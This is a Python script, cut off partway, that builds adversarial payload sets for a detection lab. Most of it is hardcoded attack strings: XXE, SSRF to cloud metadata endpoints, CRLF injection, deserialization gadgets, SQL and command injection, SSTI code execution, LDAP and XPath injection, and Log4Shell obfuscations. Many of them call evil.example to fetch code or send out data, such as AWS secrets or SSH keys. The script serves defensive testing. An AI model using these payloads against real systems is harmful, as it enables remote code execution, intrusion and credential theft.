#!/usr/bin/env python3
"""Writes session 12's adversarial sets, written from attack-tool knowledge
(sqlmap tamper scripts, commix, tplmap/SSTImap, ysoserial/phpggc/ysoserial.net,
Log4Shell obfuscation lists, XXE/SSRF/CRLF/ESI techniques), not from the corpora:

- adversarial-s12.jsonl: bare values (the lab sends each in a query, a form
  and a JSON field);
- adversarial-s12-requests.jsonl: whole requests carrying the same values in a
  cookie, a header, a multipart field and a nested JSON field, XXE as XML and
  SOAP bodies, prototype pollution in query/form names and JSON keys.
  The record's `source` names the placement (the lab's group)."""
import base64, gzip, json, os, sys, urllib.parse as up

def lines(s):
    return [l for l in s.split("\n") if l]

XXE = lines(r"""<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]><foo/>
<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://evil.example/e.dtd">%a;%b;]><r>&c;</r>
<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>
<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data PUBLIC "-//A//B" "http://evil.example/a.dtd"><data>1</data>
<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>
<!DOCTYPE a [<!ENTITY b SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><a>&b;</a>
<!DOCTYPE a [<!ENTITY b SYSTEM "expect://id">]><a>&b;</a>
<!DOCTYPE a [<!ENTITY b SYSTEM "jar:http://evil.example/x.zip!/a">]><a>&b;</a>
<!DOCTYPE a [<!ENTITY b SYSTEM "netdoc:/etc/passwd">]><a>&b;</a>
<!DOCTYPE a [<!ENTITY % d SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;'>%d;]><a/>
<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/hosts">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>
<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE foo+AFs-+ADw-!ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-foo+AD4-+ACY-xxe+ADs-+ADw-/foo+AD4-
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM 'file:///etc/passwd' > ]><foo>&xxe;</foo>
<!DOCTYPE foo[<!ENTITY xxe SYSTEM"file:///etc/passwd">]><foo>&xxe;</foo>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "gopher://127.0.0.1:25/_HELO">]><foo>&xxe;</foo>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('/etc/passwd')"/></xsl:template></xsl:stylesheet>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="rt:exec(rt:getRuntime(),'id')"/></xsl:template></xsl:stylesheet>
<!DOCTYPE x [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM 'http://evil.example/?x'>">%a;%b;]><x/>
<!DOCTYPE root [<!ENTITY % remote SYSTEM "https://evil.example/oob.dtd"> %remote; %init; %trick;]><root/>
<?xml version="1.0" standalone="no"?><!DOCTYPE x SYSTEM "file:///dev/random"><x/>
<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % all "<!ENTITY send SYSTEM 'http://evil.example/?%file;'>">%all;
<!DOCTYPE test [<!ENTITY % init SYSTEM "data://text/plain;base64,ZmlsZTovLy9ldGMvcGFzc3dk"> %init; ]><foo/>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><foo>&xxe;</foo>
<!DOCTYPE foo [<!ENTITY xxe PUBLIC "any" "file:///etc/passwd">]><foo>&xxe;</foo>
<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]><methodCall><methodName>&x;</methodName></methodCall>
<![CDATA[<]]>!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>""")

SSRF = lines(r"""http://2130706433/
http://017700000001/
http://0x7f000001/
http://0x7f.0x0.0x0.0x1/
http://0177.0.0.01/
http://127.0.1/
http://127.000.000.001/
http://[::]/
http://[::]:80/
http://[0:0:0:0:0:0:0:1]/
http://[::ffff:127.0.0.1]/
http://[::ffff:7f00:1]/
http://0.0.0.0:8080/
http://0:80/
http://localtest.me/admin
http://127.0.0.1.nip.io/
http://169.254.169.254.nip.io/latest/meta-data/
http://evil.example@127.0.0.1/
http://127.0.0.1#@evil.example/
http://user:pass@169.254.169.254/latest/meta-data/iam/security-credentials/
http://①②⑦.⓪.⓪.①/
http://127。0。0。1/
gopher://localhost:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A
gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6
dict://localhost:6379/info
file:///proc/self/environ
file://localhost/etc/passwd
file:/etc/passwd
tftp://evil.example:12346/TESTUDPPACKET
ldap://localhost:11211/%0astats%0aquit
http://metadata/computeMetadata/v1/instance/service-accounts/default/token
http://[fd00:ec2::254]/latest/api/token
http://169.254.169.254/metadata/instance?api-version=2021-02-01
http://0xA9FEA9FE/
http://169.254.43518/
http://localhost/server-status
http://[::ffff:169.254.169.254]/latest/meta-data/
http://0x7f.1/
sftp://evil.example:11111/
http://127.0.0.1:6379/""")

CRLF = lines(r"""%0d%0aSet-Cookie:crlf=injection
%0D%0ALocation:%20https://evil.example
%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection
%0d%0a%0d%0a<script>alert(1)</script>
%250d%250aSet-Cookie:x=y
%u000d%u000aSet-Cookie:x=y
%0aX-Injected:%20header
%0dX-Injected:%20header
/%0d%0aLocation:%20http://evil.example
%23%0dSet-Cookie:x=y
%3f%0d%0aSet-Cookie:x=y
%E2%80%A8Set-Cookie:x=y
%E2%80%A9Location:%20http://evil.example
%c4%8d%c4%8aSet-Cookie:x=y
%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK
%0d%0a%20Set-Cookie:x=y
%0d%0a%09Set-Cookie:x=y
\r\nSet-Cookie:x=y
%5cr%5cnSet-Cookie:x=y
%%0d0aSet-Cookie:x=y
%0d%0aAccess-Control-Allow-Origin:%20*
%0D%0AX-XSS-Protection:0%0D%0A%0D%0A<svg onload=alert(1)>
%0d%0aRefresh:0;url=http://evil.example""")
CRLF_RAW = ["x\r\nSet-Cookie: a=b", "en\r\nLocation: http://evil.example", "a\u2028Set-Cookie: x=y",
            "a\u2029Location: http://evil.example", "a\u010d\u010aSet-Cookie: x=y",
            "x\nX-Injected: 1", "a\r\n\r\n<script>alert(1)</script>"]

DESER = lines(r"""rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAEaGFzaEkABHBvcnRMAAlhdXRob3JpdHl0ABJMamF2YS9sYW5nL1N0cmluZzs=
aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249000473697a654c000a636f6d70617261746f727400164c6a6176612f7574696c2f436f6d70617261746f723b7870
O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}
a:2:{i:0;O:8:"Example1":1:{s:10:"cache_file";s:15:"../../index.php";}i:1;s:1:"x";}
O:+8:"stdClass":0:{}
C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}
O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"*events";O:15:"Faker\Generator":1:{s:13:"*formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"*event";s:2:"id";}
a:1:{i:0;O:32:"Monolog\Handler\SyslogUdpHandler":1:{s:9:"*socket";O:29:"Monolog\Handler\BufferHandler":0:{}}}
AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3IsIFZlcnNpb249My4wLjAuMA==
/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAASVN5c3RlbSwgVmVyc2lvbj00LjAuMC4w
{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"file:///c:/x.dll"}
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}
{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://evil.example/x","autoCommit":true}}
["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://evil.example/a","autoCommit":true}]
["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://evil.example/a"}]
!!python/object/apply:os.system ["id"]
!!python/object/new:subprocess.Popen [["id"]]
!!python/object/apply:subprocess.check_output [["cat","/etc/passwd"]]
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]
--- !ruby/object:Gem::Installer
i: x
cos
system
(S'id'
tR.
<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
_$$ND_FUNC$$_function(){require('child_process').exec('ls /')}()""")
# multi-line YAML / pickle items joined back
def join_deser(items):
    out, i = [], 0
    while i < len(items):
        if items[i] == "--- !ruby/object:Gem::Installer":
            out.append(items[i] + "\n" + items[i + 1]); i += 2
        elif items[i] == "cos":
            out.append("\n".join(items[i:i + 4])); i += 4
        else:
            out.append(items[i]); i += 1
    return out
DESER = join_deser(DESER)
_JAVA = bytes.fromhex("aced0005737200116a6176612e7574696c2e48617368536574ba44859596b8b7340300007870")
DESER += [base64.b64encode(gzip.compress(_JAVA, mtime=0)).decode(),
          # pickle protocol 4 of os.system('id'), as Python writes it
          base64.b64encode(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.").decode(),
          base64.b64encode(b"cposix\nsystem\n(S'id'\ntR.").decode()]

PROTO = lines(r"""{"__proto__":{"isAdmin":true}}
{"constructor":{"prototype":{"isAdmin":true}}}
{"a":{"__proto__":{"polluted":"yes"}}}
{"__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}
{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(1)","NODE_OPTIONS":"--require /proc/self/cmdline"}}
{"constructor":{"prototype":{"sourceURL":"\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('id')"}}}""")
PROTO_NAMES = ["__proto__[isAdmin]", "__proto__.isAdmin", "constructor[prototype][isAdmin]",
               "constructor.prototype.isAdmin", "a[__proto__][isAdmin]", "__proto__[toString]",
               "x[constructor][prototype][polluted]", "__pro__proto__to__[admin]"]

ESI = lines(r"""<esi:include src="http://evil.example/x"/>
<esi:include src="/page?x=<script>alert(1)</script>"/>
<esi:vars>$(HTTP_COOKIE)</esi:vars>
<esi:vars>$(HTTP_COOKIE{'PHPSESSID'})</esi:vars>
<!--esi <esi:include src=http://evil.example/ /> -->
<esi:debug/>
<esi:include src="http://evil.example/a.xml" stylesheet="http://evil.example/x.xsl"></esi:include>
<esi:assign name="x" value="1"/>
<esi:try><esi:attempt><esi:include src="http://evil.example"/></esi:attempt></esi:try>
<esi:choose><esi:when test="$(HTTP_HOST)=='a'">x</esi:when></esi:choose>
<esi:inline name="/x" fetchable="yes">y</esi:inline>
<esi:include src="http://169.254.169.254/latest/meta-data/"/>
x<esi:include src=/admin />y
<esi:include src="http://evil.example/$(HTTP_COOKIE)"/>
<esi:eval src="http://evil.example/x"/>""")

XSS = lines(r"""<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>X</text></a>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>
<math href="javascript:alert(1)">click</math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<iframe srcdoc="<script>alert(1)</script>">
<iframe srcdoc="&#60;script&#62;alert(1)&#60;/script&#62;">
<iframe srcdoc="&lt;svg onload=alert(1)&gt;"></iframe>
<form><input type=submit formaction=javascript:alert(1) value=x>
<button form=f formaction="javascript:alert(1)">x
<iframe src=javascript:alert(1)>
<iframe src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">
<iframe src="jav&#x09;ascript:alert(1)">
<iframe src=" javascript:alert(1)">
<iframe src="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">
<iframe src="javascript&colon;alert(1)">
<iframe/src="data:text/html,<svg onload=alert(1)>">
<img/src/onerror=alert(1)>
<body/onload=alert(1)>
<a href="javascript&#58;alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<svg><discard onbegin=alert(1)>
<xss oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<dialog open onclose=alert(1)><form method=dialog><button>x
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<isindex type=image src=1 onerror=alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<script src=//evil.example/x.js></script>
<script/src=data:,alert(1)>
<img src=x onerror=alert(1)//
<svg onload=alert(1)<!--
<a href=javascript&colon;confirm&lpar;1&rpar;>x""")
XSS += ["<img src=x\x0conerror=alert(1)>", "<svg\x0conload=alert(1)>",
        "<img src=x\nonerror=alert(1)>", "<svg/\x0c/onload=alert(1)>",
        "<a href=\"&#14;javascript:alert(1)\">x</a>", "<iframe src=\"java\tscript:alert(1)\">",
        "<img src=x%0Conerror=alert(1)>", "<svg%0Conload=alert(1)>"]

SQLI = lines(r"""1'/**/UNION/**/SELECT/**/NULL,NULL,NULL--/**/-
1 AND 2 NOT BETWEEN 0 AND 1
1' AND ASCII(SUBSTRING(user(),1,1)) BETWEEN 0 AND 113-- -
%53%45%4C%45%43%54%20%70%61%73%73%77%6F%72%64%20%46%52%4F%4D%20%75%73%65%72%73
1%27%20AND%201%3D1--%20-
%u0053%u0045%u004C%u0045%u0043%u0054%u0020%u0040%u0040%u0076%u0065%u0072%u0073%u0069%u006F%u006E
1' UnIoN sElEcT nULl,NuLl-- -
1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/,/*!NULL*/-- -
1'/*!UNION*//*!SELECT*//*!CONCAT*/(/*!CHAR*/(58,107,112,113,58),/*!IFNULL*/(/*!CAST*/(/*!CURRENT_USER*/()/*!AS*//*!CHAR*/),/*!CHAR*/(32)),/*!CHAR*/(58,97,110,121,58))#
1'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(/*!0CHAR(58,107,112,113,58),/*!0IFNULL(CAST(/*!0CURRENT_USER()/*!0AS/*!0CHAR),/*!0CHAR(32)),/*!0CHAR(58,97,110,121,58)),/*!0NULL,/*!0NULL#/*!0AND 'QDWa'='QDWa
1 /*!30874AND 2>1*/--
1 /*!00000AND 2>1*/--
1 AND 5 LIKE 5
1' AND GREATEST(2,1+1)=2-- -
1 AND LEAST(1,2+1)=1
1 %U%N%I%O%N %S%E%L%E%C%T 1,2,3
1 AND 9227=9227-- sp_password
1'+OR+1=1--+
1'#ngNvzqu
1' AND 5678=5678 AND 'QDWa' LIKE 'QDWa
1' AND CASE WHEN ISNULL(1) THEN (2) ELSE (1) END=1-- -
1' UNION SELECT table_name FROM information_schema/**/.tables-- -
1' union select null,null-- -
1'    UNION     SELECT   NULL-- -
1' UNION SELECT CONCAT(CHAR(113),CHAR(58))-- -
1' && 1=1-- -
1' || 1=1-- -
1' AND MID(VERSION() FROM 1 FOR 1)='5'-- -
1' AND LEFT(user(),1)='r'-- -
1' AND GET_LOCK('x',5)-- -
1' AND 1=binary 1-- -
1e0UNION SELECT NULL,NULL-- -
1'1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or'1'='2
1 AND 2e0>1e0-- -
1' AND (SELECT 1 FROM dual WHERE 1=1)='1
-1' UNION ALL SELECT 1,@@version,3-- -
1';DECLARE @x VARCHAR(99);SET @x=0x77686f616d69;EXEC master..xp_cmdshell @x-- -
1' AND 1=(SELECT COUNT(*) FROM sysobjects)-- -
1 AND 1=convert(int,(select top 1 name from sysobjects))
1' AND ORD(MID((SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64-- -
1) AND (SELECT 4523 FROM (SELECT(SLEEP(5)))a)-- -
1' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(0x7e,version(),FLOOR(RAND(0)*2))x FROM information_schema.character_sets GROUP BY x)-- -""")
SQLI = [s if s != "1'#ngNvzqu" else "1'#ngNvzqu\nAND#nVNaVoPYeva\n5678=5678-- -" for s in SQLI]
SQLI += ["1\u0000' AND 1=1-- -", "1\u00bf' AND 1=1-- -", "1\uff07 AND \uff071\uff07=\uff071",
         "1'\x01UNION\x02SELECT\x03NULL-- -", "1'\x0bOR\x0b1=1-- -", "SELECT\tid FROM users WHERE id LIKE 1"]

CMDI = lines(r""";echo$IFS$9ABCDEF$((12+34))
|${IFS}cat${IFS}/etc/passwd
;{ls,-la,/}
;{wget,http://evil.example/x}
;/???/??t /???/p??s??
;/b??/c?t /e?c/pa*
;cat /et*/pas*
;c"a"t /etc/passwd
;c\a\t /etc/passwd
;ca$@t /etc/passwd
;c$()at /etc/passwd
;$(echo imaohw|rev)
;`echo imaohw|rev`
;echo 'dwssap/cte/ tac'|rev|sh
;cat$u /etc$u/passwd$u
;cat${u} /etc${u}/passwd
;cat ${HOME:0:1}etc${HOME:0:1}passwd
;bash<<<$(base64 -d<<<aWQ=)
;sh -c $'\151\144'
;echo${IFS}aWQ=|base64${IFS}-d|sh
;cat</etc/passwd
;{echo,aWQ=}|{base64,-d}|{bash,-i}
$(sleep 5)
;sleep$IFS'5'
;$(printf${IFS}"\x73\x6c\x65\x65\x70\x20\x35")
;nslookup evil.example
;curl${IFS}evil.example
& ping -n 5 127.0.0.1 &
| timeout /t 5
;powershell -c "iex(iwr http://evil.example/x)"
;cmd.exe /c "whoami"
;who$@ami
;w"ho"am"i"
;/usr/bin/i[d]
;/bin/[c]at /etc/passwd
;${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id
;$'\143\141\164' /etc/passwd
||$(echo${IFS}id)
;eval${IFS}$(echo${IFS}aWQ=|base64${IFS}-d)
;x=ca;y=t;$x$y /etc/passwd""")
CMDI += ["\nid", "a\nping -c 1 evil.example", "127.0.0.1\ncat /etc/passwd", "x\r\nwhoami"]

SSTI = lines(r"""{{ config.items() }}
{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
{{ namespace.__init__.__globals__.os.popen('id').read() }}
{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('id').read() }}
{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}
{{ ''['__cla'+'ss__'] }}
{{ request['__cl'+'ass__'] }}
{% print(7*7) %}
{{ 7*7 }}
{{ get_flashed_messages.__globals__['current_app'].config }}
{{ ['id']|map('system')|join }}
{{ ['cat /etc/passwd']|filter('exec') }}
{{ _self.env.setCache("ftp://evil.example:2121") }}{{ _self.env.loadTemplate("backdoor") }}
{{ 'id'|filter('system') }}
{{['id',""]|sort('system')}}
{{ app.request.query.filter(0,0,1024,{'options':'system'}) }}
${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}
<#assign value="freemarker.template.utility.JythonRuntime"?new()><@value>import os;os.system("id")</@value>
${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(" ")}
[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}
${7*7}
#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
#set($str=$class.inspect("java.lang.String").type)#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))
#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end
__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
[[${T(java.lang.Runtime).getRuntime().exec('id')}]]
[(${T(java.lang.Runtime).getRuntime().exec('id')})]
*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x
<%= File.open('/etc/passwd').read %>
<%= IO.popen('id').readlines() %>
<%= Dir.entries('/') %>
<%= `ls /` %>
<%= system("whoami") %>
{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['cmd']); ?>",self::clearConfig())}
{if system('id')}{/if}
{$smarty.version}
{system('cat /etc/passwd')}
{fetch file='/etc/passwd'}
<% import os; x=os.popen('id').read() %>${x}
${self.module.cache.util.os.system("id")}
${self.template.module.runtime.util.os.system("id")}
<%! import os %>${os.system('id')}
{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}
{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}
{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}
#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
@{ var x = System.IO.File.ReadAllText("/etc/passwd"); }
{% import os %}{{ os.popen("id").read() }}
{{ settings.SECRET_KEY }}
{% debug %}""")

LDAP = lines(r"""admin)(|(objectClass=*))
*)(userPassword=*)
*)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)
admin))(|(&(1=1
x*)(|(cn=*)(cn=*
*)(%26(objectClass=*)
admin)(!(objectClass=void))
*(|(mail=*))
admin*)((|userpassword=*)
*))%00
*)(sAMAccountName=*
jdoe)(|(description=*pass*)
*)(&(objectCategory=person)(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=2)
admin)(&(objectClass=*)(uid=*
*)(|(uid=admin)(uid=root)
)(|(cn=*
*)(cn=*)(|(cn=*
admin)(|(uid=*))%00
*)(objectClass=person))(|(objectClass=*
x)(|(givenName=*)""")

XPATH = lines(r"""' or '1'='1
' or ''='
x' or 1=1 or 'x'='y
'] | //user/*[contains(*,'a')] | a['
' or count(/*)=1 or '
' or string-length(name(/*[1]))=4 or '
' and substring(name(/*[1]),1,1)='u' or '
admin' or '1'='1' and 'a'='a
' or doc('http://evil.example/')/* or '
' or doc-available('http://evil.example/x') or '
'] | /child::node() | a['
' or boolean(//*[1]) or '
' or name(//*)='users' or '
')] | //user[contains(password,'a') or ('
' or starts-with(//user[1]/password,'a') or '
' or translate(//user[1]/password,'abc','ABC')='X' or '
' or count(//*[local-name()='password'])>0 or '
//user[name/text()='' or '1'='1']/password
' or text()='' or '
1 or 1=1""")

LOG4J = lines(r"""${jndi:ldaps://evil.example/a}
${jndi:rmi://evil.example/a}
${jndi:iiop://evil.example/a}
${jndi:corba://evil.example/a}
${jndi:nis://evil.example/a}
${jndi:nds://evil.example/a}
${jndi:http://evil.example/a}
${${::-j}ndi:ldap://evil.example/a}
${${lower:jndi}:${lower:ldap}://evil.example/a}
${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example/a}
${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}
${j${::-n}d${::-i}:l${::-d}ap://evil.example/a}
${${ENV:X:-j}${ENV:X:-n}${ENV:X:-d}${ENV:X:-i}:ldap://evil.example/a}
${${sys:os.name:-j}ndi:ldap://evil.example}
${jnd${123%25ff:-${123%25ff:-i:}}ldap://evil.example/a}
${jndi:ldap://127.0.0.1#evil.example/a}
${jndi:ldap://${env:USER}.evil.example/a}
${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}
%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
${${lower:${lower:jndi}}:${lower:rmi}://evil.example/a}
${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}
${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}
${${main:\k5:-Jn}${main:\k5:-d}i:ldap://evil.example/a}
${${date:'j'}ndi:ldap://evil.example/a}
$%7Bjndi:ldap://evil.example/a%7D
${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/a}
${${upper:${::-j}}ndi:ldap://evil.example/a}""")

# Second batch (written after the first fixes landed): more evasions per family.
XSS += lines(r"""<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<svg><script href=data:,alert(1) />
<svg><script xlink:href=data:,alert(1)></script>
<form action=javascript:alert(1)><input type=submit>
<isindex action=javascript:alert(1) type=submit>
<table background=javascript:alert(1)>
<x contenteditable onblur=alert(1)>lose focus!
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)">
<xss ontransitionend=alert(1) style=transition:outline 1s>
<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-">
"><img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>
<img src="x" onerror="window.onerror=alert;throw 1">
<svg><set onbegin=alert(1) attributename=x dur=1s>
<marquee loop=1 width=0 onfinish=alert(1)>
<body onhashchange=alert(1)><a href=#x>click
<audio src onloadstart=alert(1)>
<img srcset=x onerror=alert(1)>""")
SQLI += lines(r"""1'/*!50000UNION*//*!50000SELECT*/1,2-- -
1' UNION(SELECT(1),(2))-- -
1'UNION/**/SELECT/**/1,2-- -
-1' UNION SELECT 1,2 INTO OUTFILE '/var/www/x.php'-- -
1' AND (SELECT SUBSTR(version(),1,1))='5
admin'-- -
admin'#
admin')-- -
1 OR 1=1
1' OR 'a' LIKE 'a
1' OR 2 BETWEEN 1 AND 3-- -
1' OR 1 IN (1)-- -
1' OR 'x' REGEXP 'x
1' AND ELT(1,SLEEP(5))-- -
1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--
1' PROCEDURE ANALYSE()-- -
1' AND EXP(~(SELECT * FROM (SELECT user())x))-- -
' OR 1=1 OR ''='
1' UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b-- -
1 AND 0x31=0x31
1/**//*!12345UNION SELECT*//**/1,2
' or not 0-- -
1 AND 1 NOT IN (2)
1' AND NOT 1=2-- -
1' AND 3 IS NOT NULL-- -""")
SQLI += ["1'\nAND\n1=1-- -"]
CMDI += lines(r""";{cat,$HOME/.ssh/id_rsa}
;cat /etc/pass??
;cat /e"t"c/pa"s"swd
;$(tr '[A-Z]' '[a-z]'<<<"ID")
